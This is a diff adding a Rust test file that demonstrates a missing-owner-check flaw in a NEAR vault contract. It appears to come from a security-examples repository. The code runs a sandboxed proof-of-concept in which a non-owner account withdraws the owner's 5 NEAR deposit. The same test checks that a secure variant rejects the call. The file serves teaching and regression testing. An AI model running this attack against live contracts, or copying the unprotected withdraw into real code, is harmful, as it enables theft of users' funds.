@@ -0,0 +1,51 @@
+//! Withdrawing the owner's deposit from an unrelated account
+
+use anyhow::{ensure, Result as AnyResult};
+use near_workspaces::types::NearToken;
+use serde_json::json;
+
+use crate::{ExploitSpec, Sandbox, CONTRACT_BALANCE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "missing_predecessor_check",
+    description: "Any account withdraws the vault's deposits to itself",
+    must_succeed: || Box::pin(attack("missing_predecessor_check")),
+    must_fail: || Box::pin(attack("missing_predecessor_check_secure")),
+    rejection: "Only the owner can call this method",
+};
+
+const DEPOSIT: NearToken = NearToken::from_near(5);
+
+async fn attack(contract: &'static str) -> AnyResult<()> {
+    let s = Sandbox::new().await?;
+    let vault = s
+        .deploy(
+            contract,
+            "vault",
+            CONTRACT_BALANCE,
+            json!({ "owner": s.owner.id() }),
+        )
+        .await?;
+    s.owner
+        .call(vault.id(), "deposit")
+        .deposit(DEPOSIT)
+        .transact()
+        .await?
+        .into_result()?;
+
+    let before = s.balance(s.attacker.id()).await?;
+    // The attacker is not the owner, and nothing stops them
+    s.attacker
+        .call(vault.id(), "withdraw")
+        .args_json(json!({ "amount": DEPOSIT, "receiver_id": s.attacker.id() }))
+        .transact()
+        .await?
+        .into_result()?;
+
+    let gained = s.balance(s.attacker.id()).await?.saturating_sub(before);
+    ensure!(
+        gained > NearToken::from_near(4),
+        "attacker only gained {gained}"
+    );
+    Ok(())
+}